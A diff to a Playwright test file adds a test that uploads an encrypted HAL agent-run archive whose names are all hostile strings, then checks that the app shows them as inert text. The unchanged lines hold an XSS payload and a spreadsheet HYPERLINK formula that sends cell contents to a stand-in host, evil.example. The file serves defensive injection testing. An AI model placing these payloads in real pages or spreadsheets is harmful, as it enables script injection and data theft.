@@ -1,6 +1,9 @@
 import { expect, type Page } from "@playwright/test";
+import { encryptedEntry } from "./encrypted-entry.ts";
 import { test } from "./fixtures.ts";
+import { halUpload } from "./hal-upload.ts";
 import { runText } from "./run-text.ts";
+import { zipOf } from "./zip-of.ts";
 
 const script = `<script>globalThis.pwned=1</script><img src=x onerror="globalThis.pwned=1">`;
 const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
@@ -102,6 +105,55 @@ test("a preview, a board, a run and an episode show hostile texts as texts", asy
 test("the same on a phone", async ({ page }) => {
   await page.setViewportSize({ width: 360, height: 740 });
   await page.goto("/boards/hostile-set");
+  await expectHarmless(page);
+});
+
+/** A HAL archive whose every name is hostile: agent, run, model, tools, tasks, spans and responses. */
+function hostileUpload(): string {
+  const names = {
+    "gpt-4.1-2025-04-14": `${bidi}${script}`,
+    get_user_details: script,
+    "made up": formula,
+    '"r1"': `"${script}"`,
+    '"bb"': `"${bidi}"`,
+    '"1"': `"${task}"`,
+  };
+  return Object.entries(names)
+    .reduce((text, [name, hostile]) => {
+      return text.replaceAll(
+        name,
+        JSON.stringify(hostile)
+          .slice(1, -1)
+          .replaceAll(/^\\"|\\"$/g, '"'),
+      );
+    }, halUpload("HAL-NAME"))
+    .replaceAll("HAL-NAME", JSON.stringify(script).slice(1, -1));
+}
+
+test("preview, ledger and timelines of a decrypted HAL run show hostile texts as texts", async ({
+  page,
+}) => {
+  test.slow();
+  const body = Buffer.from(encryptedEntry(hostileUpload(), "hal1234"));
+  await page.goto("/submit");
+  await page.getByLabel("Files or an archive").setInputFiles({
+    name: `${script}.zip`,
+    mimeType: "application/zip",
+    buffer: zipOf({ "<b>made-up</b>_UPLOAD.json.encrypted": body }),
+  });
+  await expect(page.getByRole("heading", { name: "What was understood" })).toBeVisible();
+  await expectHarmless(page);
+  await expectIsolated(page);
+  await page.getByRole("button", { name: "Publish" }).click();
+  await expect(page.getByRole("status").filter({ hasText: /^Published\./ })).toBeVisible();
+
+  await page.getByRole("link", { name: script }).first().click();
+  await expect(page.getByRole("region", { name: "What was billed" })).toBeVisible();
+  await page.getByText("The spans (3 of 3)").click();
+  await expectHarmless(page);
+  await expectIsolated(page);
+  await page.goto(`${page.url()}/episodes/0/0`);
+  await expect(page.getByText(/^5 archived actions: /)).toBeVisible();
   await expectHarmless(page);
 });
 
